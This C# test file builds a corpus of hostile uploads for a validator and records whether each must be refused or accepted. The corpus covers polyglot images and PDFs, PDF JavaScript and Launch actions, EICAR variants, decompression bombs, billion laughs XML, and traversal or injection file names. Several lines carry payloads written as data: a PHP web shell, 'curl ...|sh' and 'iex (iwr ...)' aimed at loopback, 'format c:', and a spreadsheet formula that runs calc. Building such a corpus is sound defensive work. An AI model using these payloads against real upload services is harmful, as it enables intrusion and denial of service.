using System.Text;
using Leineweber.Foundation.Uploads;
using Leineweber.Tests.Formulare;
using static Leineweber.Tests.Feindlich.Korpusbau;

namespace Leineweber.Tests.Feindlich;

/// <summary>What must become of a file.</summary>
internal enum Ausgang
{
    /// <summary>Refused with a message that says what to do, or taken in where it can do no harm.</summary>
    Harmless,

    /// <summary>Refused.</summary>
    Refused,

    /// <summary>Taken in: refusing it would hurt honest people.</summary>
    Accepted,
}

/// <summary>A file of the corpus.</summary>
/// <param name="What">What it is.</param>
/// <param name="Content">Its bytes.</param>
/// <param name="Name">The name it comes with.</param>
/// <param name="Type">The type its sender claims.</param>
/// <param name="Ausgang">What must become of it.</param>
internal sealed record Korpusdatei(string What, byte[] Content, string Name = "beleg.pdf", string Type = "application/pdf", Ausgang Ausgang = Ausgang.Harmless);

/// <summary>Files nobody should send, all made here: two kinds at once, bombs, wrong types, active documents, names with a purpose, sizes at the limit.</summary>
internal static class Uploadkorpus
{
    private const int Largest = (int)Upload.MostBytes;

    /// <summary>Names with a purpose: paths, line breaks, direction, length, devices, two endings.</summary>
    public static IReadOnlyList<string> Names { get; } =
    [
        "../../../etc/passwd", "..\\..\\windows\\system32\\x.pdf", "/etc/cron.d/x", "C:\\x.pdf", "rechnung\u202Efdp.exe", "a\r\nSet-Cookie: lw=1.pdf", "a\";filename=\"b.html", "<lwx>.pdf", "x.pdf\0.html", "x.html.pdf", "x.pdf.html", ".htaccess", "..", ".", "", " ", "CON.pdf", "nul", "a:stream.pdf",
        new string('l', 5000) + ".pdf", string.Concat(Enumerable.Repeat("ä", 300)) + ".png", "e\u0301\u0301\u0301.png", "%2e%2e%2f.pdf", "=cmd|'/c calc'!A1.pdf", "💥.pdf", "x.svg", "x.php", "x.pdf;.html", "\u200B.pdf", "x.pdf ", "x.pdf.", "${7*7}.pdf", "'; DROP TABLE anlage;--.pdf",
        "COM1.png", "lpt9.tar.gz", "Mu\u0308ller.pdf", "\u212B.png", "ﬁle.pdf", "\uFF0E\uFF0E\uFF0Fetc.pdf", "\u2025\u2215x.png", "a\u2028b.pdf", "\uFEFFbom.pdf", "x.\u202Egpj", "-rf.pdf", "~root", "$(id).pdf", "`id`.pdf", "|id.pdf", "{{7*7}}.pdf", "\uE000.png", string.Concat(Enumerable.Repeat("😀", 200)) + ".pdf", "x" + new string('.', 400) + "pdf", "index.cshtml", "web.config", "desktop.ini",
    ];

    /// <summary>Every file of the corpus.</summary>
    public static IReadOnlyList<Korpusdatei> All { get; } = [.. Polyglots(), .. Active(), .. Viruses(), .. Bombs(), .. Floods(), .. Foreign(), .. Broken(), .. Named(), .. Sized()];

    /// <summary>Those that are quick to send thousands of times.</summary>
    public static IReadOnlyList<byte[]> Small { get; } = [.. All.Where(file => file.Content.Length < 5000).Select(file => file.Content)];

    private static IEnumerable<(string What, string Ending, string Type, Func<byte[], byte[]> With)> Heads()
    {
        yield return ("pdf", ".pdf", "application/pdf", more => PlainPdf("", "", [.. "<</Length 0>>\nstream\n"u8, .. more, .. "\nendstream"u8]));
        yield return ("jpeg", ".jpg", "image/jpeg", more => Jpeg(8, 8, more));
        yield return ("png", ".png", "image/png", more => Png(8, 8, PngChunk("tEXt", [.. "Comment\0"u8, .. more])));
        yield return ("webp", ".webp", "image/webp", more => WebP(8, 8, more));
        yield return ("tiff", ".tif", "image/tiff", more => Tiff(8, 8, more: more));
        yield return ("heic", ".heic", "image/heic", more => Heic(8, 8, more));
        yield return ("gif", ".gif", "image/gif", Gif);
    }

    private static IEnumerable<(string What, byte[] Content)> Luggage()
    {
        yield return ("html", Html);
        yield return ("html in UTF-16", Encoding.Unicode.GetBytes("<html><lwx><script>alert(1)</script>"));
        yield return ("svg", Svg);
        yield return ("xxe", Xxe);
        yield return ("script", [.. "*/=1;alert(document.domain)/*<lwx>"u8]);
        yield return ("php", [.. "<?php system($_GET['c']); ?>"u8]);
        yield return ("zip", Zip(("x.html", Html)));
        yield return ("jar", Zip(("META-INF/MANIFEST.MF", [.. "Main-Class: X"u8]), ("X.class", [0xCA, 0xFE, 0xBA, 0xBE])));
        yield return ("rar", [.. "Rar!\x1A\x07\x01\x00"u8, .. new byte[40]]);
        yield return ("7z", [.. "7z"u8, 0xBC, 0xAF, 0x27, 0x1C, .. new byte[26]]);
        yield return ("windows program", [.. "MZ"u8, .. new byte[62], .. "PE\0\0"u8]);
        yield return ("linux program", [0x7F, .. "ELF"u8, .. new byte[60]]);
        yield return ("shell", [.. "\n#!/bin/sh\ncurl http://127.0.0.1:1/|sh\n"u8]);
        yield return ("test virus", Eicar);
        yield return ("template", [.. "{{7*7}}${7*7}#{7*7}<%= 7*7 %>"u8]);
        yield return ("header", [.. "\r\n\r\nHTTP/1.1 200 OK\r\nLw-Eingeschleust: 1\r\n\r\n<lwx>"u8]);
    }

    private static IEnumerable<Korpusdatei> Polyglots()
    {
        foreach (var (head, ending, type, with) in Heads())
        {
            yield return new($"{head} as it should be", with([]), "gut" + ending, type, head == "gif" ? Ausgang.Refused : Ausgang.Accepted);
            foreach (var (luggage, content) in Luggage())
            {
                var outcome = luggage is "test virus" or "zip" or "jar" or "rar" or "html" or "svg" or "php" || head == "gif" ? Ausgang.Refused : Ausgang.Harmless;
                yield return new($"{head} with {luggage} inside", with(content), "zwei" + ending, type, outcome);
                if (head is not ("tiff" or "heic"))
                {
                    yield return new($"{head}, then {luggage}", [.. with([]), .. content], "zwei" + ending, type, outcome);
                }

                yield return new($"{luggage}, then {head}", [.. content, .. with([])], "zwei" + ending, type, Ausgang.Refused);
            }
        }
    }

    /// <summary>Documents that do something when opened.</summary>
    private static IEnumerable<Korpusdatei> Active()
    {
        foreach (var action in new[] { "/S/JavaScript/JS(app.alert\\(1\\))", "/S/J#61vaScript/JS(x)", "/S /#4aava#53cript/JS 4 0 R", "/S/Launch/F(cmd.exe)", "/S/L#61unch/Win<</F(cmd.exe)>>", "/S/Rendition/JS(x)/N<</S/JavaScript>>" })
        {
            yield return new($"pdf that opens with {action}", PlainPdf($"/OpenAction<<{action}>>"), Ausgang: Ausgang.Refused);
            yield return new($"pdf with {action} in an object stream", PlainPdf("/OpenAction 9 0 R", "", ObjectStream($"<<{action}>>")), Ausgang: Ausgang.Refused);
            yield return new($"pdf with {action} in an object stream of another name", PlainPdf("/OpenAction 9 0 R", "", Packed("/Type/#4fbjStm/N 1/First 5", Ascii($"9 0  <<{action}>>"))), Ausgang: Ausgang.Refused);
            yield return new($"pdf with {action} in an object stream without name", PlainPdf("/OpenAction 9 0 R", "", Packed("/N 1/First 5", Ascii($"9 0  <<{action}>>"))), Ausgang: Ausgang.Refused);
            yield return new($"pdf with {action} far inside an object stream", PlainPdf("/OpenAction 9 0 R", "", ObjectStream(new string(' ', 200_000) + $"<<{action}>>")), Ausgang: Ausgang.Refused);
            yield return new($"pdf with {action} before each page", PlainPdf($"/AA<</WC<<{action}>>>>"), Ausgang: Ausgang.Refused);
            yield return new($"pdf with {action} by name", PlainPdf($"/Names<</JavaScript<</Names[(a)<<{action}>>]>>>>"), Ausgang: Ausgang.Refused);
        }

        yield return new("pdf with object stream in another packing", PlainPdf("", "", [.. "<</Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]/Length 4>>\nstream\n789c\nendstream"u8]), Ausgang: Ausgang.Refused);
        yield return new("pdf with rich media", PlainPdf("/X<</Subtype/RichMedia>>"), Ausgang: Ausgang.Refused);
        foreach (var encryption in new[] { "/Encrypt 4 0 R", "/Encrypt<</Filter/Standard/V 5/R 6>>", "/#45ncrypt 4 0 R", "/Encrypt\n4 0 R" })
        {
            yield return new($"pdf encrypted by {encryption}", PlainPdf("", encryption + "/ID[<00><00>]", [.. "<</Filter/Standard/V 2/R 3/O(x)/U(x)/P -44>>"u8]), Ausgang: Ausgang.Refused);
        }

        foreach (var harmless in new[] { "/OpenAction<</S/URI/URI(http://127.0.0.1:1/)>>", "/OpenAction<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\x)>>", "/OpenAction<</S/SubmitForm/F(http://127.0.0.1:1/)>>", "/Names<</EmbeddedFiles<</Names[(x.exe)<</EF<</F 2 0 R>>>>]>>>>", "/AcroForm<</XFA(<lwx/>)>>", "/Metadata 2 0 R", "/Lang(<lwx>)" })
        {
            yield return new($"pdf with {harmless}", PlainPdf(harmless));
        }

        yield return new("pdf that names its objects in a stream, as most programs do", PlainPdf("", "", ObjectStream("<</Type/Metadata/Title(Rechnung)>>")), Ausgang: Ausgang.Accepted);
        yield return new("pdf that speaks of /Encrypt and JavaScript", PlainPdf("", "", [.. "<</Length 40>>\nstream\nBT (Wort: /Encrypt, JavaScript) Tj ET\nendstream"u8]), Ausgang: Ausgang.Accepted);
        yield return new("pdf with outlines, an icc profile and a photo behind them", PlainPdf("/Outlines<</First 2 0 R/Count 1>>/X<</S/Named/N/NextPage>>", "", [.. "<</Subtype/Image/Filter/DCTDecode/Length 9>>\nstream\n"u8, .. Jpeg(8, 8), .. "\nendstream"u8]), Ausgang: Ausgang.Accepted);
    }

    private static IEnumerable<Korpusdatei> Viruses()
    {
        yield return new("test virus", Eicar, "rechnung.pdf", Ausgang: Ausgang.Refused);
        yield return new("test virus after a BOM", [0xEF, 0xBB, 0xBF, .. Eicar], Ausgang: Ausgang.Refused);
        yield return new("test virus in text", [.. Ascii("Guten Tag\r\n"), .. Eicar, .. Ascii("\r\nGruß")], "brief.txt", "text/plain", Ausgang.Refused);
        yield return new("test virus as base64", Ascii(Convert.ToBase64String(Eicar)), "virus.b64", "text/plain", Ausgang.Refused);
        yield return new("test virus as mail", [.. Ascii("MIME-Version: 1.0\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n"), .. Ascii(Convert.ToBase64String(Eicar))], "nachricht.eml", "message/rfc822", Ausgang.Refused);
        yield return new("test virus in UTF-16", Encoding.Unicode.GetBytes(Encoding.ASCII.GetString(Eicar)), Ausgang: Ausgang.Refused);
        foreach (var (what, pack) in new (string, Func<byte[], byte[]>)[] { ("zip", bytes => Zip(("eicar.com", bytes))), ("gzip", Gzip), ("brotli", Brotli), ("zip in zip", bytes => Zip(("a.zip", Zip(("eicar.com", bytes))))) })
        {
            yield return new($"test virus in {what}", pack(Eicar), "archiv.zip", "application/zip", Ausgang.Refused);
            yield return new($"test virus in {what} behind a pdf", [.. PlainPdf(), .. pack(Eicar)]);
        }
    }

    private static IEnumerable<Korpusdatei> Bombs()
    {
        var zeros = new byte[20_000_000];
        yield return new("zip bomb", Zip(("a.bin", zeros)), "archiv.zip", "application/zip", Ausgang.Refused);
        yield return new("zip of many", Zip([.. Enumerable.Range(0, 2000).Select(i => ($"{i}.txt", Array.Empty<byte>()))]), "archiv.zip", "application/zip", Ausgang.Refused);
        yield return new("zip in zip in zip", Zip(("b.zip", Zip(("c.zip", Zip(("d.bin", zeros)))))), Ausgang: Ausgang.Refused);
        yield return new("zip with path", Zip(("../../../../tmp/lw-entkommen", [1])), Ausgang: Ausgang.Refused);
        yield return new("gzip bomb", Gzip(zeros), "x.pdf.gz", "application/gzip", Ausgang.Refused);
        yield return new("brotli bomb", Brotli(zeros), Ausgang: Ausgang.Refused);
        yield return new("deflate bomb", Deflate(zeros), Ausgang: Ausgang.Refused);
        yield return new("pdf with a bomb for an object stream", PlainPdf("", "", [.. Enumerable.Repeat(Packed("/Type/ObjStm/N 1/First 5", zeros), 6)]), Ausgang: Ausgang.Refused);
        yield return new("pdf with a bomb for a page", PlainPdf("", "", Packed("", zeros)));
        yield return new("pdf with ten thousand streams", PlainPdf("", "", [.. Enumerable.Repeat(ObjectStream("null"), 10_000)]));
        yield return new("pdf that says stream a million times", PlainPdf("", "", Ascii(string.Concat(Enumerable.Repeat("stream\n", 1_000_000)))));
        yield return new("pdf of slashes", PlainPdf("", "", Ascii(new string('/', 5_000_000))));
        yield return new("pdf nested deep", [.. "%PDF-1.4\n1 0 obj"u8, .. Ascii(new string('[', 200_000)), .. "\n%%EOF\n"u8]);
        yield return new("pdf of dictionaries nested deep", [.. "%PDF-1.4\n1 0 obj"u8, .. Ascii(string.Concat(Enumerable.Repeat("<</A", 50_000))), .. "\n%%EOF\n"u8]);
        yield return new("png with a bomb for its data", Png(8, 8, PngChunk("IDAT", Deflate(zeros))), "bild.png", "image/png");
        yield return new("png with a bomb for a comment", Png(8, 8, PngChunk("zTXt", [.. "x\0\0"u8, .. Deflate(zeros)])), "bild.png", "image/png");
        yield return new("billion laughs", Ascii("<!DOCTYPE l [<!ENTITY a \"" + new string('x', 1000) + "\">" + string.Concat("bcdefghi".Select(c => $"<!ENTITY {c} \"{string.Concat(Enumerable.Repeat($"&{(char)(c - 1)};", 10))}\">")) + "]><l>&i;</l>"), "auszug.xml", "text/xml", Ausgang.Refused);
        yield return new("xml nested deep", Ascii(string.Concat(Enumerable.Repeat("<a>", 100_000))), "auszug.xml", "text/xml", Ausgang.Refused);
        yield return new("xml of many names", Ascii("<x>" + string.Concat(Enumerable.Range(0, 100_000).Select(i => $"<n{i}/>")) + "</x>"), "auszug.xml", "text/xml", Ausgang.Refused);
        yield return new("json nested deep", Ascii(new string('[', 100_000)), "formular.json", "application/json", Ausgang.Refused);
        yield return new("csv of one line", Ascii("Buchungstag;Betrag;Verwendungszweck\n" + new string(';', 900_000)), "auszug.csv", "text/csv", Ausgang.Refused);
    }

    /// <summary>Pictures of some bytes that claim to be as large as a city.</summary>
    private static IEnumerable<Korpusdatei> Floods()
    {
        foreach (var (width, height) in new (uint, uint)[] { (60_000, 60_000), (65_535, 65_535), (16_000, 16_000), (65_535, 4_000) })
        {
            var outcome = (long)width * height > 250_000_000 ? Ausgang.Refused : Ausgang.Accepted;
            yield return new($"jpeg of {width} × {height}", Jpeg((int)width, (int)height), "foto.jpg", "image/jpeg", outcome);
            yield return new($"jpeg of {width} × {height} behind a long comment", Jpeg((int)width, (int)height, new byte[60_000]), "foto.jpg", "image/jpeg", outcome);
            yield return new($"png of {width} × {height}", Png(width, height), "foto.png", "image/png", outcome);
            yield return new($"webp of {width} × {height}", WebP((int)width, (int)height), "foto.webp", "image/webp", outcome);
            yield return new($"tiff of {width} × {height}", Tiff(width, height), "foto.tif", "image/tiff", outcome);
            yield return new($"tiff of {width} × {height} from a Mac", Tiff(width, height, little: false), "foto.tif", "image/tiff", outcome);
            yield return new($"heic of {width} × {height}", Heic(width, height), "foto.heic", "image/heic", outcome);
        }

        foreach (var side in new[] { 2_147_483_647u, 2_147_483_648u, 4_294_967_295u })
        {
            yield return new($"png of {side} × {side}", Png(side, side), "foto.png", "image/png", Ausgang.Refused);
            yield return new($"png of {side} × 1", Png(side, 1), "foto.png", "image/png", Ausgang.Refused);
            yield return new($"tiff of {side} × {side}", Tiff(side, side), "foto.tif", "image/tiff", Ausgang.Refused);
            yield return new($"heic of 1 × {side}", Heic(1, side), "foto.heic", "image/heic", Ausgang.Refused);
        }

        yield return new("png of nothing", Png(0, 0), "foto.png", "image/png");
        yield return new("tiff whose directory lies beyond its end", [.. "II"u8, 42, 0, 0xFF, 0xFF, 0xFF, 0x7F, .. new byte[20]], "foto.tif", "image/tiff");
        yield return new("tiff whose directory has 65,535 entries", [.. "II"u8, 42, 0, 8, 0, 0, 0, 0xFF, 0xFF, .. new byte[40]], "foto.tif", "image/tiff");
        yield return new("jpeg whose segments never end", [0xFF, 0xD8, 0xFF, .. Enumerable.Repeat((byte)0xFF, 500_000), 0xFF, 0xD9], "foto.jpg", "image/jpeg");
    }

    /// <summary>Kinds that are not taken in at all, under their own names and under names that are.</summary>
    private static IEnumerable<Korpusdatei> Foreign()
    {
        var kinds = new (string Ending, byte[] Content)[]
        {
            ("html", Html), ("svg", Svg), ("xml", Xxe), ("js", [.. "alert(1)"u8]), ("php", [.. "<?php x(); ?>"u8]), ("exe", [.. "MZ"u8, .. new byte[200]]), ("elf", [0x7F, .. "ELF"u8, .. new byte[200]]), ("sh", [.. "#!/bin/sh\nid\n"u8]), ("bat", [.. "@echo off\r\nformat c:"u8]), ("ps1", [.. "iex (iwr http://127.0.0.1:1)"u8]), ("vbs", [.. "CreateObject(\"WScript.Shell\")"u8]), ("lnk", [0x4C, 0, 0, 0, 1, 0x14, 2, 0, .. new byte[60]]), ("url", [.. "[InternetShortcut]\r\nURL=file:///c:/x"u8]),
            ("hta", [.. "<hta:application id=x><lwx>"u8]), ("docm", Zip(("[Content_Types].xml", [.. "<Types/>"u8]), ("word/vbaProject.bin", new byte[100]))), ("docx", Zip(("[Content_Types].xml", [.. "<Types/>"u8]), ("word/document.xml", Xxe))), ("xlsm", Zip(("xl/vbaProject.bin", new byte[100]))), ("pptm", Zip(("ppt/vbaProject.bin", new byte[100]))), ("odt", Zip(("mimetype", [.. "application/vnd.oasis.opendocument.text"u8]), ("Basic/script-lc.xml", Xxe))),
            ("doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[512]]), ("rtf", [.. "{\\rtf1{\\object\\objdata 0105}}"u8]), ("csv", [.. "=cmd|'/c calc'!A1;1\r\n"u8]), ("slk", [.. "ID;P\nC;X1;Y1;K0;EEXEC(\"calc\")"u8]), ("iqy", [.. "WEB\n1\nhttp://127.0.0.1:1/"u8]), ("mht", [.. "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<lwx>"u8]), ("eml", [.. "From: a@b\r\nBcc: c@d\r\n\r\n<lwx>"u8]), ("swf", [.. "FWS\x0A"u8, .. new byte[60]]), ("wasm", [0, .. "asm\x01\0\0\0"u8]), ("class", [0xCA, 0xFE, 0xBA, 0xBE, .. new byte[60]]),
            ("iso", new byte[40_000]), ("bmp", [.. "BM"u8, .. new byte[60]]), ("ico", [0, 0, 1, 0, 1, .. new byte[60]]), ("psd", [.. "8BPS\0\x01"u8, .. new byte[60]]), ("eps", [.. "%!PS-Adobe-3.0\n(/etc/passwd)(r) file\n"u8]), ("mp4", [0, 0, 0, 24, .. "ftypisom"u8, .. new byte[60]]), ("mp3", [.. "ID3\x03"u8, .. new byte[60]]), ("sqlite", [.. "SQLite format 3\0"u8, .. new byte[200]]), ("7z", [.. "7z"u8, 0xBC, 0xAF, 0x27, 0x1C, .. new byte[60]]), ("tar", new byte[1536]), ("txt", [.. "nur Text"u8]), ("json", [.. "{\"__proto__\":{\"x\":1}}"u8]), ("cab", [.. "MSCF"u8, .. new byte[60]]), ("crx", [.. "Cr24"u8, .. new byte[60]]),
        };
        foreach (var (ending, content) in kinds)
        {
            yield return new($"{ending} by its own name", content, "datei." + ending, "application/octet-stream", Ausgang.Refused);
            yield return new($"{ending} as pdf", content, "datei.pdf", "application/pdf", Ausgang.Refused);
            yield return new($"{ending} as picture", content, $"datei.{ending}.jpg", "image/jpeg", Ausgang.Refused);
        }
    }

    /// <summary>Honest files that broke on the way: cut off, bits turned, structure in circles.</summary>
    private static IEnumerable<Korpusdatei> Broken()
    {
        foreach (var (what, ending, type, with) in Heads().Take(3))
        {
            var whole = with([]);
            foreach (var part in new[] { 1, 2, 4, 5, 6, 7 })
            {
                yield return new($"{what} cut off after {part} eighths", whole[..(whole.Length * part / 8)], "teil" + ending, type, Ausgang.Refused);
            }

            for (var seed = 0; seed < 12; seed++)
            {
                var random = new Random(seed);
                var turned = whole.ToArray();
                for (var i = 0; i < 8; i++)
                {
                    turned[random.Next(turned.Length)] ^= (byte)(1 << random.Next(8));
                }

                yield return new($"{what} with turned bits, seed {seed}", turned, "kaputt" + ending, type);
            }
        }

        yield return new("pdf head only", [.. "%PDF-"u8], Ausgang: Ausgang.Refused);
        yield return new("pdf behind a blank", [.. " "u8, .. PlainPdf()], Ausgang: Ausgang.Refused);
        yield return new("pdf turning in circles", [.. "%PDF-1.4\n1 0 obj 1 0 R endobj\nxref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n"u8]);
        yield return new("pdf whose pages are each other's children", Pdf("", [.. "<</Type/Catalog/Pages 2 0 R>>"u8], [.. "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"u8]));
        foreach (var lie in new[] { "/Length -1", "/Length 99999999999999999999", "/Length 4 0 R", "/Length 0.5" })
        {
            yield return new($"pdf with {lie}", PlainPdf("", "", Ascii($"<<{lie}>>\nstream\nx\nendstream")));
        }

        yield return new("only zeros", new byte[100_000], Ausgang: Ausgang.Refused);
        yield return new("webp whose length lies", [.. "RIFF"u8, 1, 0, 0, 0, .. "WEBPVP8X"u8, .. new byte[40]], "foto.webp", "image/webp", Ausgang.Refused);
    }

    /// <summary>The same picture under every name and every claimed type.</summary>
    private static IEnumerable<Korpusdatei> Named()
    {
        var photo = Filler.Photo("x").Content;
        foreach (var name in Names.Where(name => name.Length > 0))
        {
            yield return new($"a name: {(name.Length > 40 ? name[..40] + "…" : name)}", photo, name, "image/png", Ausgang.Accepted);
        }

        foreach (var type in new[] { "text/html", "image/svg+xml", "application/xhtml+xml", "text/javascript", "application/x-msdownload", "message/rfc822", "*/*", "x", "", "text/html;charset=utf-7" })
        {
            yield return new($"a picture that says it is {type}", photo, "seite.html", type, Ausgang.Accepted);
        }
    }

    private static IEnumerable<Korpusdatei> Sized()
    {
        yield return new("nothing", [], Ausgang: Ausgang.Refused);
        foreach (var one in "%<\0PG"u8.ToArray().Append((byte)0xFF))
        {
            yield return new($"one byte: {one}", [one], Ausgang: Ausgang.Refused);
        }

        byte[] Photo(int length) => [.. Jpeg(8, 8)[..^2], .. new byte[length - Jpeg(8, 8).Length], 0xFF, 0xD9];
        yield return new("one byte less than the limit", Photo(Largest - 1), "foto.jpg", "image/jpeg", Ausgang.Accepted);
        yield return new("as large as the limit", Photo(Largest), "foto.jpg", "image/jpeg", Ausgang.Accepted);
        yield return new("one byte more than the limit", Photo(Largest + 1), "foto.jpg", "image/jpeg", Ausgang.Refused);
    }
}
